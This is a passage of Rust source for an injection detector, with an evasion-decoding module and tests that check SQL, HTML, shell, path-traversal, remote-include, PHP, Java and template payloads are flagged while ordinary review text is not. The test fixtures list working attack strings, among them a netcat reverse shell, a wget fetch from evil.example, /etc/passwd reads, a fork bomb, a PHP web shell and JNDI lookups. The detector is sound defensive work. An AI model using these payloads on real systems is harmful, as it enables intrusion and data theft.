                in_list(&["http", "https", "ftp", "ftps"], t.slice(scheme_start, p))
                    && (host.first() == Some(&b'[') || is_ip(host))
            })
    }

    fn is_ip(host: &[u8]) -> bool {
        let colons = host.iter().filter(|c| **c == b':').count();
        let v6 = colons >= 2 && host.iter().all(|c| c.is_ascii_hexdigit() || *c == b':');
        let name = host.split(|c| *c == b':').next().unwrap_or(host);
        let parts = name.split(|c| *c == b'.').count();
        let digits = !name.is_empty() && name.iter().all(|c| c.is_ascii_digit() || *c == b'.');
        v6 || (digits && (parts == 4 || (parts == 1 && name.len() >= 8)))
    }

    /// A bare URL ending in `?` (the RFI trick that turns an appended `.php` into a query).
    fn trailing_question(s: &Scan) -> bool {
        let v = trim_ascii(s.t.0);
        let tv = Text(v);
        v.last() == Some(&b'?')
            && !v.iter().any(u8::is_ascii_whitespace)
            && ["http://", "https://", "ftp://", "ftps://", "file:"]
                .iter()
                .any(|p| tv.starts_ci(0, p.as_bytes()))
    }

    /// `data:` URIs carrying a payload (`data:,…`, `data:text/plain;base64,…`).
    fn data_uri(s: &Scan) -> bool {
        let t = s.t;
        s.word(keywords::DATA) && {
            let mut from = 0;
            let mut hit = false;
            while let Some(p) = find_ci(t.0, b"data:", from) {
                from = p + 5;
                let rest = Text(t.slice(from, from + 64));
                let mime_ok = mchr(b',', rest.0).is_some_and(|c| {
                    rest.slice(0, c).iter().all(|x| {
                        x.is_ascii_alphanumeric()
                            || matches!(x, b'/' | b';' | b'=' | b'-' | b'+' | b'.')
                    })
                });
                let payload = rest.contains_ci(b"base64,")
                    || rest.at(0) == b','
                    || rest.starts_ci(0, b"text/")
                    || rest.starts_ci(0, b"application/");
                if t.word_start(p) && mime_ok && payload {
                    hit = true;
                    break;
                }
            }
            hit
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Decoding of leftover evasion layers
// ---------------------------------------------------------------------------------------------

mod decode {
    use super::*;

    /// One more decoding layer: percent (`%2e`, `%u002e`), HTML character references
    /// (`&#x3c;`, `&#0000060`, `&lt`, `&lbrace;`), JS escapes (`\u0027`, `\x3c`, `\u{61}`),
    /// full-width forms (`＜`) and typographic quotes (`‘ ’ ´` as `'`), NUL bytes dropped.
    /// `None` when nothing changed.
    /// `present`: the bytes occurring in `b`.
    pub fn peel(b: &[u8], present: &ByteSet) -> Option<Vec<u8>> {
        let t = Text(b);
        // `1'union+all+select+…`: a space-less value whose `+` were spaces one layer down.
        let plus_words = present.has(b'+') && !present.has(b' ') && b.windows(3).any(|w| matches!(w, [x, b'+', y] if x.is_ascii_alphanumeric() || y.is_ascii_alphanumeric()));
        // Only the bytes that start an escape and occur are searched for.
        let starts = Needles::of(present, b"%&\\\0\xEF\xE2\xC2");
        let mut first = None;
        let mut from = 0;
        while let Some(i) = starts.find(b, from) {
            if decode_at(t, i).is_some() {
                first = Some(i);
                break;
            }
            from = i + 1;
        }
        let first = match (first, plus_words) {
            (Some(f), _) => f,
            (None, true) => {
                return Some(
                    b.iter()
                        .map(|&c| if c == b'+' { b' ' } else { c })
                        .collect(),
                );
            }
            (None, false) => return None,
        };
        let mut out = Vec::with_capacity(b.len());
        out.extend_from_slice(t.slice(0, first));
        let mut changed = false;
        let mut percent = false;
        let mut i = first;
        while i < b.len() {
            // Bytes that start no escape are copied as a run.
            let next = starts.find(b, i).unwrap_or(b.len());
            if next > i {
                out.extend_from_slice(t.slice(i, next));
                i = next;
                continue;
            }
            let decoded = decode_at(t, i);
            percent |= decoded.is_some() && t.at(i) == b'%';
            match decoded {
                Some((cp, len)) => {
                    if let Some(cp) = cp {
                        push_char(&mut out, cp);
                    }
                    i += len;
                    changed = true;
                }
                None => {
                    out.push(t.at(i));
                    i += 1;
                }
            }
        }
        if percent || plus_words {
            // Double-encoded form data: `+` was a space one layer down.
            out.iter_mut()
                .filter(|c| **c == b'+')
                .for_each(|c| *c = b' ');
        }
        changed.then_some(out)
    }

    /// (code point to emit, bytes consumed), or `None` when nothing decodes at `i`.
    type Decoded = Option<(Option<u32>, usize)>;

    fn decode_at(t: Text, i: usize) -> Decoded {
        match t.at(i) {
            b'%' => percent_escape(t, i),
            b'&' => entity(t, i),
            b'\\' => js_escape(t, i),
            0 => Some((None, 1)),
            0xC2 | 0xE2 | 0xEF => {
                lookalike(t.slice(i, i + 3)).map(|(c, len)| (Some(u32::from(c)), len))
            }
            _ => None,
        }
    }

    fn percent_escape(t: Text, i: usize) -> Decoded {
        let two = t.slice(i + 1, i + 3);
        if two.len() == 2
            && let Some(v) = hex_value(two)
        {
            return Some((Some(v), 3));
        }
        let four = t.slice(i + 2, i + 6);
        (matches!(t.at(i + 1), b'u' | b'U') && four.len() == 4)
            .then(|| hex_value(four))
            .flatten()
            .map(|v| (Some(v), 6))
    }

    fn js_escape(t: Text, i: usize) -> Decoded {
        let (digits, len) = match t.at(i + 1) {
            b'u' | b'U' if t.at(i + 2) == b'{' => {
                let close = mchr(b'}', t.slice(i + 3, i + 10))?;
                (t.slice(i + 3, i + 3 + close), close + 4)
            }
            b'u' | b'U' => (t.slice(i + 2, i + 6), 6),
            b'x' | b'X' => (t.slice(i + 2, i + 4), 4),
            _ => return None,
        };
        let complete = !digits.is_empty() && (len > 6 || digits.len() == len - 2);
        complete
            .then(|| hex_value(digits))
            .flatten()
            .map(|v| (Some(v), len))
    }

    fn hex_value(d: &[u8]) -> Option<u32> {
        if d.is_empty() || d.len() > 6 {
            return None;
        }
        d.iter().try_fold(0u32, |acc, &c| {
            char::from(c).to_digit(16).map(|v| acc * 16 + v)
        })
    }

    fn push_char(out: &mut Vec<u8>, v: u32) {
        let ch = fold_char(char::from_u32(v).unwrap_or('\u{FFFD}'));
        let mut buf = [0u8; 4];
        out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
    }

    /// Full-width ASCII and typographic quotes fold to their ASCII originals.
    fn fold_char(ch: char) -> char {
        match ch {
            '\u{FF01}'..='\u{FF5E}' => char::from_u32(ch as u32 - 0xFEE0).unwrap_or(ch),
            '\u{2018}' | '\u{2019}' | '\u{201B}' | '\u{00B4}' | '\u{2032}' => '\'',
            '\u{201C}' | '\u{201D}' | '\u{2033}' => '"',
            _ => ch,
        }
    }

    /// A UTF-8 look-alike at the start of `s`, as (ASCII byte, encoded length).
    fn lookalike(s: &[u8]) -> Option<(u8, usize)> {
        let len = match s.first()? {
            0xC2 => 2,
            0xE2 | 0xEF => 3,
            _ => return None,
        };
        let ch = std::str::from_utf8(s.get(..len)?).ok()?.chars().next()?;
        let folded = fold_char(ch);
        (folded != ch && folded.is_ascii()).then_some((folded as u8, len))
    }

    /// An HTML character reference at `i` (numeric with any number of leading zeros, or one
    /// of the named references used in evasions; `;` optional).
    fn entity(t: Text, i: usize) -> Decoded {
        if t.at(i + 1) == b'#' {
            let hex = matches!(t.at(i + 2), b'x' | b'X');
            let start = i + 2 + usize::from(hex);
            let mut e = start;
            while e < start + 64
                && (if hex {
                    t.at(e).is_ascii_hexdigit()
                } else {
                    t.at(e).is_ascii_digit()
                })
            {
                e += 1;
            }
            let digits = t.slice(start, e);
            let first_nonzero = digits
                .iter()
                .position(|c| *c != b'0')
                .unwrap_or(digits.len().saturating_sub(1));
            let digits = digits.get(first_nonzero..).unwrap_or_default();
            let v = if hex {
                hex_value(digits)?
            } else {
                std::str::from_utf8(digits).ok()?.parse::<u32>().ok()?
            };
            return Some((Some(v), e - i + usize::from(t.at(e) == b';')));
        }
        #[rustfmt::skip]
        const NAMED: &[(&str, char)] = &[
            ("lbrace", '{'), ("rbrace", '}'), ("lcub", '{'), ("rcub", '}'), ("lpar", '('),
            ("rpar", ')'), ("lsqb", '['), ("rsqb", ']'), ("lbrack", '['), ("rbrack", ']'),
            ("colon", ':'), ("semi", ';'), ("newline", '\n'), ("tab", '\t'), ("sol", '/'),
            ("bsol", '\\'), ("dollar", '$'), ("num", '#'), ("excl", '!'), ("period", '.'),
            ("comma", ','), ("equals", '='), ("quot", '"'), ("apos", '\''), ("grave", '`'),
            ("lt", '<'), ("gt", '>'), ("amp", '&'), ("nbsp", ' '), ("percnt", '%'),
            ("ast", '*'), ("plus", '+'), ("verbar", '|'), ("vert", '|'), ("quest", '?'),
            ("commat", '@'), ("lowbar", '_'), ("hyphen", '-'),
        ];
        NAMED
            .iter()
            .find(|(name, _)| t.starts_ci(i + 1, name.as_bytes()))
            .map(|(name, ch)| {
                let end = i + 1 + name.len();
                (Some(*ch as u32), end - i + usize::from(t.at(end) == b';'))
            })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kind(s: &str) -> Option<&'static str> {
        detect(s).map(Injection::as_str)
    }

    fn assert_all(kind_name: &str, values: &[&str]) {
        for v in values {
            assert_eq!(kind(v), Some(kind_name), "{v:?} -> {:?}", detect_rule(v));
        }
    }

    #[test]
    fn sql_injections() {
        assert_all(
            "sql",
            &[
                "1' OR '1'='1",
                "' or 1=1-- ",
                "admin'--",
                "-1 UNION ALL SELECT NULL,NULL,password FROM users--",
                "1; DROP TABLE users; --",
                "1' and sleep(5)#",
                "'; waitfor delay '0:0:5'--",
                "1 AND 1=1",
                "x' or email like '%@%",
                "1' order by 3--",
                "foo') UNION ALL select NULL --",
                "SELECT * FROM users WHERE id = 1",
                "' or ‘1’=‘1",
                "x'|email--",
                "admin@juice-sh.op';",
                "1' and starts_with(password,'a')::int",
                "OR '{\"b\":2}' <@ '{\"a\":1}'",
                "username[$ne]",
                "sleep(",
                "1/**/union/*!50000select*/1",
                "%27%20or%201%3D1--",
            ],
        );
    }

    #[test]
    fn html_injections() {
        assert_all(
            "html",
            &[
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(document.cookie)>",
                "\" onmouseover=\"alert(1)",
                "javascript:alert(1)",
                "ja\tvascript:alert(1)",
                "<svg/onload=alert()>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "＜script＞alert(1)＜/script＞",
                "[].sort.call`${alert}1337`",
                "window['alert'](document['cookie'])",
                "(![]+[])[+[]]",
            ],
        );
    }

    #[test]
    fn shell_injections() {
        assert_all(
            "shell",
            &[
                "; cat /etc/passwd",
                "x | nc 10.0.0.1 4444 -e /bin/sh",
                "$(whoami)",
                "`id`",
                "127.0.0.1 && wget http://evil.example/x.sh",
                "c'a't /etc/passwd",
                "c\\at /etc/pass\\wd",
                "cat${IFS}/etc/passwd",
                "{cat,/etc/passwd}",
                "/???/c?t /???/p??swd",
                "www.example.com;c$@at+/et$@c/pas$@swd",
                "time whoami",
                "|| ping -c 3 127.0.0.1",
                "a=nc&&$a -nlvp 555",
                "FOR /F \"tokens=*\" %G IN ('dir /b') DO echo %G",
                "IF EXIST C:\\pagefile.sys CMD",
                "() { :;}; echo pwned",
                ";iwr http://example.com/x.ps1",
                "powershell -enc AAAA",
                "; uname -a",
                "|whoami",
                "\r\nMAIL FROM:<a@b.com>",
                ":(){ :|:& };:",
            ],
        );
    }

    #[test]
    fn path_traversal() {
        assert_all(
            "path-traversal",
            &[
                "../../../etc/passwd",
                "..\\..\\windows\\win.ini",
                "/proc/self/environ",
                "....//....//etc/hosts",
                "WEB-INF/web.xml",
                "c:\\windows\\system32\\drivers\\etc\\hosts",
                "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                "/.git/config",
                ".../.../WINDOWS/win.ini",
            ],
        );
    }

    #[test]
    fn remote_include() {
        assert_all(
            "remote-include",
            &[
                "http://10.0.0.1/x.txt",
                "https://[2001:db8::1]/shell.txt",
                "https://evil.example/shell.txt?",
                "gopher://127.0.0.1:6379/_x",
                "file:///etc/hostname",
                "data:text/plain;base64,PD9waHA=",
                "jar:http://evil.example/b.zip!/a",
            ],
        );
    }

    #[test]
    fn php_injections() {
        assert_all(
            "php",
            &[
                "<?php system($_GET['c']); ?>",
                "<?= `id` ?>",
                "php://filter/convert.base64-encode/resource=index.php",
                "O:8:\"stdClass\":1:{s:1:\"a\";i:2;}",
                "base64_decode('cGhwaW5mbygp')",
                "system('id');",
                "$f=$_GET['x'];$f('ls')",
                "eval /*x*/ ($code)",
                "$__[$_[1]](7)",
                "(system)('uname');",
                "'sys'.'tem'('id');",
                "shell.php5",
                "avatar.php.jpg",
                "sess_d8ew88tqmabdcokhumchy8htqm",
            ],
        );
    }

    #[test]
    fn java_injections() {
        assert_all(
            "java",
            &[
                "${jndi:ldap://evil.example/a}",
                "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
                "${${lower:j}ndi:rmi://x/a}",
                "$${env:x:-$}{jndi:ldap://x/a}",
                "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
                "java.lang.Runtime.getRuntime().exec('id')",
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
                "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
                "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
                "&#36;{jndi:ldap://x/a}",
            ],
        );
        // Base64 of "runtime" from a 3-byte boundary: the fully determined characters.
        assert_eq!(keywords::base64_core(b"runtime", 0), "cnVudGltZ");
    }

    #[test]
    fn template_injections() {
        assert_all(
            "template",
            &[
                "{{7*7}}",
                "{{config.items()}}",
                "${7*7}",
                "#{7*7}",
                "<%= 7*7 %>",
                "{{''.__class__.__mro__}}",
                "{% import os %}{{ os.popen('id').read() }}",
            ],
        );
    }

    #[test]
    fn benign_free_text() {
        for s in [
            "I'd rather pay $5 than $10 (seriously).",
            "Mr. O'Brien's order #12345 arrived on 3/4/2024 at 10:30; great service!",
            "Works on Windows & Linux -- setup took 1-2 days.",
            "Is C++ better than C# for games? a/b testing says 50% yes.",
            "Email me at zoë.o'neil@example.com or see https://example.com/page?x=1&y=2",
            "\"Best purchase of the year\" -- Chloé, Montréal",
            "Select the size and color before adding to cart.",
            "Drop me a line; union members get 20% off.",
            "Drop table tennis practice; update: it's cancelled.",
            "Sleep 8 hours a day & drink water.",
            "Cat food, id card, and a new echo dot -- all for $49.99!",
            "Time flies when you're having fun!",
            "PS I love you. Find the cheapest flight & book it.",
            "is this your parents' or yours?",
            "Use 'or' instead of 'and' in the title, please.",
            "Set it to 'auto' and then 'on'.",
            "The 'quick start' guide isn't quick; 2/5 -- sorry.",
            "Update (March 9, 2023): still working after 9 months!",
            "I'm 5'10\" and 170 lbs; size M fits like an L.",
            "Ordered: 2017-08-11 | Shipped: 2017-08-12",
            "Order by phone or order by 6pm for same-day delivery.",
            "Saved it to C:\\Users\\Sam\\Documents\\review.docx",
            "Wget works under almost all Unix variants in use today.",
            "This is useful with a split terminal (think =emacs= or =tmux=).",
            "Das Produkt ist 20% günstiger – sehr zufrieden, danke!",
            "Очень хороший товар, доставка быстрая, рекомендую!",
            "とても良い商品でした。また買いたいです！",
            "Rock & roll; AT&T; R&D; Q&A; 5 > 3 and x < y.",
            "He said: ‘I’ll be there at 9:00’ — he wasn’t.",
            "Use code SAVE20; if x > 5 or y < 3 it's fine.",
            "My cat sits on the laptop all day, lol :) <3",
            "#blessed #tbt {{ not a template }} ${5} fee",
        ] {
            assert_eq!(detect(s), None, "{s:?} -> {:?}", detect_rule(s));
        }
    }

    #[test]
    fn short_trigger_table_matches() {
        let mut listed: Vec<(&str, u64)> = keywords::SHORT_TRIGGERS
            .iter()
            .map(|(w, bit, need)| {
                assert_eq!(*need, ByteSet::need(w.as_bytes()));
                (*w, *bit)
            })
            .collect();
        let mut short: Vec<(&str, u64)> = keywords::TRIGGERS
            .iter()
            .filter(|(w, _)| w.len() < keywords::KEY_LEN)
            .copied()
            .collect();
        listed.sort_unstable();
        short.sort_unstable();
        assert_eq!(listed, short);
    }

    #[test]
    fn limits_and_edges() {
        assert_eq!(detect(""), None);
        assert_eq!(detect("   "), None);
        // A payload beyond the scan limit is not seen; one at the start of a big value is.
        let mut big = "a ".repeat(SCAN_LIMIT);
        big.push_str("<script>alert(1)</script>");
        assert_eq!(detect(&big), None);
        let mut big2 = String::from("' or 1=1--");
        big2.push_str(&"x".repeat(1 << 20));
        assert_eq!(detect(&big2), Some(Injection::Sql));
        // Clipping never splits a multi-byte character; pathological inputs stay bounded.
        assert_eq!(detect(&"é".repeat(SCAN_LIMIT)), None);
        for unit in ["'", "(", "${", "/*", "%2", "&#", "\\u", "{,", "`", "$"] {
            let _ = detect(&unit.repeat(1 << 18));
        }
        assert_eq!(
            detect_rule("1' or '1'='1").map(|(k, _)| k),
            Some(Injection::Sql)
        );
    }
}
